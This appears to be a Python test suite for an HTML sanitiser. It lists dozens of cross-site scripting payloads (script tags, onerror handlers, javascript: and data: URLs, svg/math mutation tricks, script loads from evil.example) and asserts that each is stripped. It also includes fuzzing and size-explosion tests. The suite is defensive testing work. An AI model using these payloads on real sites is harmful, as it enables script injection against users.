"""HTML that means harm: to readers, and to the worker that sanitises it."""

import os
import re
import resource
import subprocess
import sys
from html.parser import HTMLParser
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tests.worker import hostile_html
from worker import html

ROOT = Path(__file__).parent.parent.parent

TAGS = {
    *("a", "b", "blockquote", "br", "caption", "cite", "code", "del", "div", "em", "figcaption", "figure", "h1", "h2"),
    *("h3", "h4", "h5", "h6", "hr", "i", "img", "ins", "li", "mark", "ol", "p", "pre", "q", "rb", "rp", "rt", "ruby"),
    *("s", "small", "span", "strong", "sub", "sup", "table", "tbody", "td", "tfoot", "th", "thead", "tr", "u", "ul"),
}
ATTRIBUTES = {"a": {"href", "title", "rel"}, "img": {"src", "alt", "title", "width", "height"}}
# Nothing else begins with a less-than sign, and attributes stand in quotes that nothing in them can end.
TAG = re.compile(r"</?[a-z][a-z0-9]*(?: [a-z]+=\"[^\"<>]*\")*>")


class Offences(HTMLParser):
    """All that is in a document and may not be there."""

    def __init__(self, document: str) -> None:
        super().__init__()
        self.found: list[str] = []
        if "<" in TAG.sub("", document) or ">" in TAG.sub("", document):
            self.found.append("a sign that is not escaped")
        if "\0" in document:
            self.found.append("NUL")
        self.feed(document)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in TAGS:
            self.found.append(f"<{tag}>")
        names = [name for name, _ in attrs]
        if len(names) != len(set(names)):
            self.found.append(f"<{tag}> with an attribute twice")
        for name, value in attrs:
            if name not in ATTRIBUTES.get(tag, ()):
                self.found.append(f"<{tag} {name}>")
            elif name in ("href", "src") and not re.match("https?:", value or ""):
                self.found.append(f"<{tag} {name}={value}>")
            elif name == "rel" and value != "nofollow noopener noreferrer":
                self.found.append(f"<a rel={value}>")
        if tag == "a" and "rel" not in names:
            self.found.append("<a> without rel")

    def handle_comment(self, data: str) -> None:
        self.found.append(f"<!--{data}-->")

    def handle_decl(self, decl: str) -> None:
        self.found.append(f"<!{decl}>")

    def unknown_decl(self, data: str) -> None:
        self.found.append(f"<![{data}]>")

    def handle_pi(self, data: str) -> None:
        self.found.append(f"<?{data}>")


def offences(text: str) -> list[str]:
    return Offences(html.prepare(text.encode()).html.decode()).found


@pytest.mark.parametrize(
    "document",
    [
        "<script>x</script>",
        "<p onclick='x'>",
        '<a href="javascript:x" rel="nofollow noopener noreferrer">',
        '<a href="https://x">',
        '<img src="/x">',
        '<p title="x">',
        "<!-- x -->",
        "<!doctype html>",
        "<p",
        "a > b",
        '<img alt="<p>">',
    ],
)
def test_the_check_of_these_tests_finds_what_may_not_be_there(document: str) -> None:
    assert Offences(document).found


SCRIPTS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script/x>alert(1)</script/x>",
    "<script\n>alert(1)</script\n>",
    "<scr\0ipt>alert(1)</scr\0ipt>",
    "<\0script>alert(1)</\0script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<scr<!-- -->ipt>alert(1)</script>",
    "<<script>alert(1);//<</script>",
    "<script>alert(1)",
    "<script src=//evil.example/x.js?<b>",
    "<b/><script>alert(1)</script>",
    '<script a=">" src="//evil.example"></script>',
    "</script><script>alert(1)</script>",
    "<script><!--<script></script>--></script>alert(1)",
    "<p>x</p\0><script>alert(1)</script>",
    "<p>\ufeff<scr\ufeffipt>alert(1)</script>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<textarea><script>alert(1)</script></textarea><p>x",
    "<title><script>alert(1)</script>",
    "<xmp><p title='</xmp><script>alert(1)</script>'></xmp>",
    "<plaintext><p><script>alert(1)</script>",
    "<template><script>alert(1)</script></template>",
    "<select><style></select><script>alert(1)</script></style>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)>",
    "<object data=javascript:alert(1)><embed src=javascript:alert(1)>",
    "<applet code=x></applet><base href=//evil.example><p>x",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'><p>x",
    "<link rel=stylesheet href=//evil.example/x.css><p>x",
    "<style>@import '//evil.example';</style><p>x",
    "<style><style/><img src=x onerror=alert(1)>",
    "<form action=javascript:alert(1)><input type=submit><button formaction=javascript:alert(1)>x</button></form>",
    "<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset><p>x",
    "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)></audio><p>x",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee><p>x",
    "<body onload=alert(1)><p>x",
    "<isindex action=javascript:alert(1) type=image><p>x",
    "<![CDATA[<script>alert(1)</script>]]><p>x",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]--><p>x",
    "<!--><script>alert(1)</script>--><p>x",
    "<!--->\n<img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)>-->",
    "<?xml version=1?><script>alert(1)</script>",
    "<?import namespace=t implementation=//evil.example><p>x",
    "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>",
    "<p>&#60;script&#62;alert(1)&#x3c;/script></p>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-<p>",
    "¼script¾alert(¢XSS¢)¼/script¾<p>",
]
ATTRIBUTE_TRICKS = [
    "<img src=x onerror=alert(1)>",
    "<img src='x'onerror=alert(1)>",
    '<img src="x"/onerror="alert(1)">',
    "<img/src=x/onerror=alert(1)>",
    "<img src=x:x onerror\n=\nalert(1)>",
    "<img \x0bsrc=x \x0conerror=alert(1)>",
    '<img """><script>alert(1)</script>">',
    "<img src=x alt='>' onerror=alert(1)>",
    "<img src=`x` onerror=alert(1)>",
    "<img alt=`<script>alert(1)</script>`>",
    '<img alt="`><script>alert(1)</script>`">',
    "<img src=https://x.example/ onerror=alert(1)//",
    "<img src='https://x.example/",
    "<a href=https://x.example/ onmouseover=alert(1)>x</a>",
    "<a href='https://x.example/\"onmouseover=\"alert(1)'>x</a>",
    "<a href='https://x.example/' href='javascript:alert(1)'>x</a>",
    "<a rel=opener target=_blank href=https://x.example/>x</a>",
    "<a title='\"><script>alert(1)</script>'>x</a>",
    "<a title='&quot;><img src=x onerror=alert(1)>'>x</a>",
    "<p style='background:url(javascript:alert(1))'>x",
    "<p style='width:expression(alert(1))'>x",
    "<p id=x class=y name=z data-x=y>x",
    "<b <script>alert(1)</script>0",
    "<div onclick=alert(1)<p>x",
    "<p onclick\0=alert(1)>x",
    "<img srcset='javascript:alert(1)' lowsrc=x dynsrc=x usemap=#x>",
    "<a ping=//evil.example download xlink:href=javascript:alert(1)>x</a>",
    "<table background=javascript:alert(1)><td background=x>x</table>",
    "<br size='&{alert(1)}'>",
]
MUTATIONS = [
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><p><style><g title='</style><img src=x onerror=alert(1)>'>",
    "<svg></p><style><a id='</style><img src=x onerror=alert(1)>'>",
    "<svg><foreignObject><p><img src=x onerror=alert(1)></foreignObject></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><set attributeName=href to=javascript:alert(1)>",
    "<svg><use href='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>",
    "<math><mi><table><mglyph><svg><mtext><style><path id='</style><img onerror=alert(1) src>'>",
    "<math href=javascript:alert(1)>x</math><p>x",
    "<math><annotation-xml encoding='text/html'><img src=x onerror=alert(1)></annotation-xml></math>",
    "<table><a href=javascript:alert(1)><tr><td>x</a></table>",
    "<a><table><a href=javascript:alert(1)>x",
    "<p><svg><title><p><img src=x onerror=alert(1)></title></svg>",
    "<select><template><img src=x onerror=alert(1)></template></select>",
    "<noembed><img src='</noembed><img src=x onerror=alert(1)>'></noembed>",
    "<noframes><p title='</noframes><img src=x onerror=alert(1)>'></noframes>",
    "<b><p></b><script>alert(1)</script></p>",
    "<ruby><rt><svg><rp><style><img src=x onerror=alert(1)>",
]


@pytest.mark.parametrize("text", [*SCRIPTS, *ATTRIBUTE_TRICKS, *MUTATIONS])
def test_nothing_that_could_run_or_load_gets_through(text: str) -> None:
    for body in (text, text + "<p>x</p>", f"<p>x{text}", f"<table><b>{text}</table>", f"<a href='{text}'>{text}"):
        assert offences(body) == [], body


@pytest.mark.parametrize("text", ["<p>x" + text for text in SCRIPTS[:8] if "scr<" not in text])
def test_a_script_goes_with_all_that_is_in_it(text: str) -> None:
    assert b"alert" not in html.prepare(text.encode()).html.replace(b"ipt>alert", b"")


ADDRESSES = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "\x01javascript:alert(1)",
    "\x1b javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "java\0script:alert(1)",
    "java\ufeffscript:alert(1)",
    "javascript\t:alert(1)",
    "&#106;avascript:alert(1)",
    "&#0000106&#0000097&#0000118&#0000097script:alert(1)",
    "&#x6A&#x61&#x76&#x61script:alert(1)",
    "java&#x09;script:alert(1)",
    "java&#x0A;script:alert(1)",
    "java&Tab;script&colon;alert(1)",
    "java&NewLine;script:alert(1)",
    " &#14;  javascript:alert(1)",
    "jav&#0;ascript:alert(1)",
    "&#xFEFF;javascript:alert(1)",
    "%6aavascript:alert(1)",
    "javascript&amp;colon;alert(1)",
    "vbscript:msgbox(1)",
    "livescript:x",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD4=",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "view-source:javascript:alert(1)",
    "feed:javascript:alert(1)",
    "file:///etc/passwd",
    "ftp://x.example/",
    "mailto:x@x.example",
    "blob:https://x.example/1",
    "//javascript:alert(1)",
    "/\\evil.example",
    "\\\\evil.example",
    "/a",
    "a",
    "#a",
    "?a",
    "",
    ":",
    "https:",
    "http:",
    "https://",
    "//",
    "///",
    "https:/x",
    "https:x",
    "https:\\\\x.example",
    "https:javascript:alert(1)",
]


@pytest.mark.parametrize("address", ADDRESSES)
def test_only_addresses_of_the_web_get_through(address: str) -> None:
    for quote in "\"'":
        text = f"<p><a href={quote}{address}{quote}>x</a><img src={quote}{address}{quote}></p>"
        assert offences(text) == []
    assert offences(f"<p><a href={address}>x</a><img src={address}></p>") == []


def test_addresses_of_the_web_do() -> None:
    for address in ("https://x.example/a?b=c#d", "http://x.example:8080/", "HTTPS://x.example/đ"):
        assert b"href=" in html.prepare(f"<p><a href='{address}'>x</a></p>".encode()).html


PIECES = st.sampled_from(
    [
        *(f"<{name}>" for name in sorted(TAGS)),
        *(f"</{name}>" for name in sorted(TAGS)),
        *("<script>", "</script>", "<style>", "</style>", "<svg>", "</svg>", "<math>", "<noscript>", "<template>"),
        *("<title>", "</title>", "<select>", "<option>", "<form>", "<section>", "<font>", "</font>", "<FOO>", "<P>"),
        *("<!--", "-->", "--!>", "<!x>", "<?x>", "</ x>", "<![CDATA[", "]]>", "<", ">", "'", '"', "`", "=", "/"),
        *("<a href=//x.example>", "<a href='javascript:x' onclick=x>", "<img src=https://x.example/ onerror=x>"),
        *("<a title='<p>'>", "<a title='a\n\nb'>", "<p lang=vi>", '<img alt="', "<b a='>'>", "<a href='"),
        *("<img alt='" + "&" * 450 + "'>", "<a title='" + "x" * 2001 + "'>", "<i " + "a " * 17 + ">"),
        *("&lt;", "&amp;", "&nbsp;", "&#0;", "&#10;", "&#13;", "&#xFEFF;", "&#xD800;", "&notin", "&#12;"),
        *("\n", "\n\n", "\r\n", "\r", " ", "\t", "\0", "\ufeff", "\u3000", "\x01", "\x85", "a", "b c", "ế", "中"),
    ]
)
SOUP = st.lists(PIECES, max_size=16).map("".join)


@settings(deadline=None, max_examples=500)
@given(SOUP)
def test_any_soup_of_tags_becomes_harmless_and_stays_as_it_is_when_sanitised_again(text: str) -> None:
    prepared = html.prepare(text.encode())
    assert Offences(prepared.html.decode()).found == []
    assert html.prepare(prepared.html) == prepared


@settings(deadline=None, max_examples=40)
@given(before=SOUP, repeated=SOUP, after=SOUP, times=st.integers(50, 500))
def test_soup_in_quantity_grows_by_a_bounded_amount(before: str, repeated: str, after: str, times: int) -> None:
    text = before + repeated * min(times, 1 + 4000 // max(1, len(repeated))) + after
    prepared = html.prepare(text.encode())
    # Each sign can become an entity, and each element that was left open may be opened and closed again.
    assert len(prepared.html) <= 60 * len(text.encode()) + len("<blockquote></blockquote>") * html._MOST_OPEN
    assert html.prepare(prepared.html) == prepared


def test_the_largest_hostile_bodies_cost_bounded_time_and_memory() -> None:
    """In a process that dies when it takes too much of either: a body that explodes takes minutes and gigabytes."""

    def limit() -> None:
        resource.setrlimit(resource.RLIMIT_CPU, (60, 60))
        resource.setrlimit(resource.RLIMIT_AS, (1 << 30, 1 << 30))

    done = subprocess.run(
        [sys.executable, "-m", "tests.worker.hostile_html"],
        cwd=ROOT,
        env={**os.environ, "PYTHONPATH": str(ROOT)},
        preexec_fn=limit,
        capture_output=True,
        text=True,
        check=False,
    )
    assert done.returncode == 0, done.stderr[-2000:]
    results = [line.split("\t") for line in done.stdout.splitlines()]
    assert [name for *_, name in results] == list(hostile_html.REPEATED)
    for size, html_size, words, name in results:
        assert int(size) > hostile_html.MAX_BYTES * 0.9, name
        assert int(html_size) <= 6 * hostile_html.MAX_BYTES, name
        assert int(words) <= hostile_html.MAX_BYTES, name


@pytest.mark.parametrize(
    "name", ["open formatting, then paragraphs", "a new kind in every paragraph", "items with emphasis"]
)
def test_what_would_explode_is_taken_as_text(name: str) -> None:
    raw = hostile_html.body(*hostile_html.REPEATED[name])
    assert html._is_entangled(raw.decode())
    assert not re.search(b"<(?!/?p>|br>)", html.prepare(raw).html)


def test_long_honest_html_is_not_taken_for_hostile() -> None:
    chapter = "<div><div><p>Một <b>hai <i>ba</i></b> <a href='https://x.example/'>bốn</a>.</p></div></div>\n" * 2500
    prepared = html.prepare(chapter.encode())
    assert prepared.html.count(b"<i>ba</i>") == 2500
    assert prepared.words == 10_000


def test_text_that_gives_up_its_tags_keeps_its_words_and_paragraphs() -> None:
    raw = ("<b><i><u><s><em><strong><small><code>" * 500 + "<p>Một &lt;b&gt;</p><p>hai</p>" * 500).encode()
    prepared = html.prepare(raw)
    assert prepared.html == b"<p>M\xe1\xbb\x99t &lt;b&gt;</p>\n<p>hai</p>\n" * 500
    assert prepared.words == 1500
